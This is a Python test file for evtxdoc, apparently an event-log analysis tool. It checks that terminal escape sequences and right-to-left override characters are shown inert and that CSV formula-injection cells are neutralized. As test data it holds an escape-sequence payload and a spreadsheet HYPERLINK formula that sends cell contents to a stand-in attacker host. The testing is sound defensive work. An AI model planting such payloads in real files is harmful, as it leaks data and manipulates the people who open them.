"""What leaves evtxdoc cannot act on its reader: terminal escapes in names and paths are shown
as escapes, and CSV cells a spreadsheet would run as formulas are neutralized (issue 18)."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

from typer.testing import CliRunner

from evtxdoc import pipeline
from evtxdoc.cli import app
from evtxdoc.models import AnalyzeOptions
from evtxdoc.report.events import spreadsheet_safe, write_csv
from evtxdoc.report.printable import markup, printable
from evtxdoc.synth.catalog import shape
from evtxdoc.synth.writer import EvtxWriter

ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x1b[1;31m"
T0 = 1_758_873_600_000_000_000


def test_control_and_direction_characters_are_shown_as_escapes() -> None:
    assert printable(f"a{ESCAPES}b") == "a\\x1b]0;pwned\\x07\\x1b[2J\\x1b[1;31mb"
    assert printable("evil\u202etxt.exe") == "evil\\u202etxt.exe"  # right-to-left override
    assert printable("tab\tand\nnewline stay") == "tab\tand\nnewline stay"
    assert printable("\x9b31m") == "\\x9b31m"  # the one-byte C1 CSI
    assert markup("[bold]x[/]") == "\\[bold]x\\[/]"


def test_an_archive_member_named_with_escapes_reaches_the_terminal_inert(tmp_path: Path) -> None:
    bundle = tmp_path / f"logs{ESCAPES}.zip"
    with zipfile.ZipFile(bundle, "w") as archive:
        archive.writestr(f"System{ESCAPES}.evtx", b"not an event log")
    result = CliRunner().invoke(app, ["analyze", str(bundle), "--format", "terminal"])
    shown = result.output
    assert "System" in shown and "\x1b]0;" not in shown and "\x07" not in shown
    assert "\\x1b]0;pwned" in shown


def test_csv_cells_that_would_run_as_formulas_are_neutralized(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    writer = EvtxWriter()
    writer.extend(
        [
            shape("scm_state_change").make(T0, "@SUM(1+1)", {"param1": formula, "param2": "-2+3"}),
            shape("scm_state_change").make(T0 + 1, "DESKTOP-1", {"param1": "plain", "param2": "x"}),
        ]
    )
    (tmp_path / "system.evtx").write_bytes(writer.to_bytes())
    analysis = pipeline.analyze([tmp_path / "system.evtx"], AnalyzeOptions(workers=1))
    out = io.StringIO()
    assert write_csv(analysis.timeline, out) == 2
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    hosts = {row["host"] for row in rows}
    assert hosts == {"'@SUM(1+1)", "DESKTOP-1"}
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
    assert spreadsheet_safe("-2+3") == "'-2+3" and spreadsheet_safe(-5) == -5
